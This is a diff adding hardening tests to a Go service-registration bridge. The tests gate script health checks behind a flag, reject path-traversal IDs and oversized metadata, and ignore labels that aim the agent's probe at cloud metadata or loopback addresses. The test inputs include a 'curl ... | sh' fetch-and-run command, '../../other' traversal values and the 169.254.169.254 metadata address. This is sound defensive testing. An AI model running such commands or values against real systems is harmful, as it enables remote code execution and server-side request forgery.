@@ -803,6 +803,7 @@ func TestServices(t *testing.T) {
 		{
 			name: "script check replaces $SERVICE_IP and $SERVICE_PORT and splits like a shell",
 			run:  web(`SERVICE_CHECK_SCRIPT=/bin/check --addr $SERVICE_IP:$SERVICE_PORT "two words" 'single quoted' esc\ aped`),
+			cfg:  func(c *Config) { c.AllowScriptChecks = true },
 			want: []bridge.Service{with(web80(), func(s *bridge.Service) {
 				s.Checks = []bridge.Check{{Args: []string{"/bin/check", "--addr", "10.0.0.5:8000", "two words", "single quoted", "esc aped"}, Interval: "10s"}}
 			})},
@@ -810,6 +811,7 @@ func TestServices(t *testing.T) {
 		{
 			name: "script check does not expand other variables",
 			run:  web(`SERVICE_CHECK_SCRIPT=check $HOME`),
+			cfg:  func(c *Config) { c.AllowScriptChecks = true },
 			want: []bridge.Service{with(web80(), func(s *bridge.Service) {
 				s.Checks = []bridge.Check{{Args: []string{"check", "$HOME"}, Interval: "10s"}}
 			})},
@@ -817,6 +819,7 @@ func TestServices(t *testing.T) {
 		{
 			name: "script with a shell operator runs through /bin/sh -c, as Consul ran registrator's Script",
 			run:  web(`SERVICE_CHECK_SCRIPT=curl -fs http://$SERVICE_IP:$SERVICE_PORT/ | grep ok`),
+			cfg:  func(c *Config) { c.AllowScriptChecks = true },
 			want: []bridge.Service{with(web80(), func(s *bridge.Service) {
 				s.Checks = []bridge.Check{{Args: []string{"/bin/sh", "-c", "curl -fs http://10.0.0.5:8000/ | grep ok"}, Interval: "10s"}}
 			})},
@@ -840,6 +843,7 @@ func TestServices(t *testing.T) {
 			name: "every check kind at once, in order http, https, tcp, grpc, ttl, script",
 			run: web("SERVICE_CHECK_SCRIPT=check", "SERVICE_CHECK_TTL=1m", "SERVICE_CHECK_GRPC=1", "SERVICE_CHECK_TCP=1",
 				"SERVICE_CHECK_HTTPS=/s", "SERVICE_CHECK_HTTP=/h"),
+			cfg: func(c *Config) { c.AllowScriptChecks = true },
 			want: []bridge.Service{with(web80(), func(s *bridge.Service) {
 				s.Checks = []bridge.Check{
 					httpCheck("http://10.0.0.5:8000/h"),
@@ -913,8 +917,118 @@ func TestServices(t *testing.T) {
 		{
 			name: "script that does not split warns, no check",
 			run:  web(`SERVICE_CHECK_SCRIPT=check "unterminated`),
+			cfg:  func(c *Config) { c.AllowScriptChecks = true },
 			want: []bridge.Service{web80()},
 			warn: []string{"SERVICE_CHECK_SCRIPT"},
+		},
+		{
+			name:   "a script check without -allow-script-checks: the service is not registered, the warning names the flag",
+			run:    web("SERVICE_CHECK_SCRIPT=curl http://10.0.0.1/ | sh"),
+			want:   nil,
+			warn:   []string{"SERVICE_CHECK_SCRIPT"},
+			reason: "a script check runs a command on the agent's host: whoever starts a container must not get that by default",
+		},
+		{
+			name: "a per-port script check refuses only its port",
+			run:  nginx("SERVICE_443_CHECK_SCRIPT=check"),
+			want: []bridge.Service{nginxService(80)},
+			warn: []string{"SERVICE_443_CHECK_SCRIPT"},
+		},
+		{
+			name:   "a SERVICE_ID with a slash is refused",
+			run:    web("SERVICE_ID=../../other"),
+			want:   nil,
+			warn:   []string{"SERVICE_ID"},
+			reason: "a '/' makes a path in every key-value layout, and '..' makes Consul's agent answer a redirect",
+		},
+		{
+			name: "a SERVICE_NAME with a control character is refused",
+			run:  web("SERVICE_NAME=we\x01b"),
+			want: nil,
+			warn: []string{"SERVICE_NAME"},
+		},
+		{
+			name: "a per-port SERVICE_ID of '..' refuses that port alone",
+			run:  nginx("SERVICE_80_ID=.."),
+			want: []bridge.Service{nginxService(443)},
+			warn: []string{"SERVICE_80_ID"},
+		},
+		{
+			name: "a SERVICE_ID with dots, colons and a space is fine",
+			run:  web("SERVICE_ID=https.12345:a b"),
+			want: []bridge.Service{with(web80(), func(s *bridge.Service) { s.ID = "https.12345:a b" })},
+		},
+		{
+			name: "a SERVICE_NAME of 256 bytes is refused",
+			run:  web("SERVICE_NAME=" + strings.Repeat("n", 256)),
+			want: nil,
+			warn: []string{"SERVICE_NAME"},
+		},
+		{
+			name:   "-useIpFromLabel with a host name instead of an address: the default rule applies",
+			run:    run{name: "web.1", image: "web", publish: []string{"8000:80"}, labels: map[string]string{"net.ip": "metadata.google.internal"}},
+			cfg:    func(c *Config) { c.UseIPFromLabel = "net.ip" },
+			want:   []bridge.Service{web80()},
+			warn:   []string{"-useIpFromLabel: label net.ip"},
+			reason: "the agent probes the registered address: a label must not aim it at any host",
+		},
+		{
+			name: "-useIpFromLabel with the cloud metadata address: the default rule applies",
+			run:  run{name: "web.1", image: "web", publish: []string{"8000:80"}, labels: map[string]string{"net.ip": "169.254.169.254/32"}},
+			cfg:  func(c *Config) { c.UseIPFromLabel = "net.ip" },
+			want: []bridge.Service{web80()},
+			warn: []string{"-useIpFromLabel: label net.ip"},
+		},
+		{
+			name: "-useIpFromLabel with loopback: the default rule applies",
+			run:  run{name: "web.1", image: "web", publish: []string{"8000:80"}, labels: map[string]string{"net.ip": "127.0.0.1"}},
+			cfg:  func(c *Config) { c.UseIPFromLabel = "net.ip" },
+			want: []bridge.Service{web80()},
+			warn: []string{"-useIpFromLabel: label net.ip"},
+		},
+		{
+			name: "-useIpFromLabel with an IPv6 address and a prefix",
+			run:  run{name: "web.1", image: "web", publish: []string{"8000:80"}, labels: map[string]string{"net.ip": "2001:db8::7/64"}},
+			cfg:  func(c *Config) { c.UseIPFromLabel = "net.ip" },
+			want: []bridge.Service{with(web80(), func(s *bridge.Service) { s.Address = "2001:db8::7" })},
+		},
+		{
+			name: "an HTTP method outside the allowlist: GET is used",
+			run:  web("SERVICE_CHECK_HTTP=/health", "SERVICE_CHECK_HTTP_METHOD=TRACE"),
+			want: []bridge.Service{with(web80(), func(s *bridge.Service) { s.Checks = []bridge.Check{httpCheck("http://10.0.0.5:8000/health")} })},
+			warn: []string{"SERVICE_CHECK_HTTP_METHOD"},
+		},
+		{
+			name: "a SERVICE_CHECK_HEADER over 4096 bytes: no headers",
+			run:  web("SERVICE_CHECK_HTTP=/health", `SERVICE_CHECK_HEADER={"X": "`+strings.Repeat("v", 4096)+`"}`),
+			want: []bridge.Service{with(web80(), func(s *bridge.Service) { s.Checks = []bridge.Check{httpCheck("http://10.0.0.5:8000/health")} })},
+			warn: []string{"SERVICE_CHECK_HEADER"},
+		},
+		{
+			name: "tags past 64, and tags over 255 bytes, are left out",
+			run:  web("SERVICE_TAGS=" + strings.Repeat("t,", 70) + strings.Repeat("x", 256) + ",last"),
+			want: []bridge.Service{with(web80(), func(s *bridge.Service) { s.Tags = []string{"t"} })},
+			warn: []string{"SERVICE_TAGS"},
+		},
+		{
+			name: "an attribute over 4096 bytes is left out, the others kept",
+			run:  web("SERVICE_BIG="+strings.Repeat("b", 4097), "SERVICE_SMALL=s"),
+			want: []bridge.Service{with(web80(), func(s *bridge.Service) { s.Meta = map[string]string{"small": "s"} })},
+			warn: []string{"SERVICE_BIG"},
+		},
+		{
+			name: "attributes past 64 are left out, in key order",
+			run:  web(manyAttributes(70)...),
+			want: []bridge.Service{with(web80(), func(s *bridge.Service) { s.Meta = attributes(64) })},
+			warn: []string{"SERVICE_A64"},
+		},
+		{
+			name:   "ports past -max-services yield nothing, with one warning",
+			run:    run{name: "web.1", image: "web", publish: []string{"8001:1", "8002:2", "8003:3"}},
+			cfg:    func(c *Config) { c.MaxServices = 2 },
+			want:   []bridge.Service{portService(1, 8001), portService(2, 8002)},
+			warn:   []string{"-max-services"},
+			reason: "a container exposing every port must not ask for 65 535 registrations",
 		},
 		{
 			name: "several bad values: one warning each, the rest still used",
@@ -1104,4 +1218,36 @@ func TestExplainNamesTheWinningKeys(t *testing.T) {
 	if d := cmp.Diff(want, got); d != "" {
 		t.Errorf("keys per port (-want +got):\n%s", d)
 	}
+}
+
+// nginxService is the service of port 80 or 443 that nginx yields without
+// metadata.
+func nginxService(port int) bridge.Service {
+	published := map[int]int{80: 8000, 443: 4443}[port]
+	return bridge.Service{ID: fmt.Sprintf("host:nginx.0:%d", port), Name: fmt.Sprintf("nginx-%d", port), Address: hostAddr, Port: published, ExposedPort: port}
+}
+
+// portService is the service of the image web's exposed port, published
+// on the host's port published, among several.
+func portService(exposed, published int) bridge.Service {
+	return bridge.Service{ID: fmt.Sprintf("host:web.1:%d", exposed), Name: fmt.Sprintf("web-%d", exposed), Address: hostAddr, Port: published, ExposedPort: exposed}
+}
+
+// manyAttributes is n attributes SERVICE_A00=v00 ..., as env.
+func manyAttributes(n int) []string {
+	var env []string
+	for k, v := range attributes(n) {
+		env = append(env, "SERVICE_"+strings.ToUpper(k)+"="+v)
+	}
+	return env
+}
+
+// attributes is the first n of manyAttributes' attributes, as the service
+// holds them.
+func attributes(n int) map[string]string {
+	out := map[string]string{}
+	for i := range n {
+		out[fmt.Sprintf("a%02d", i)] = fmt.Sprintf("v%02d", i)
+	}
+	return out
 }
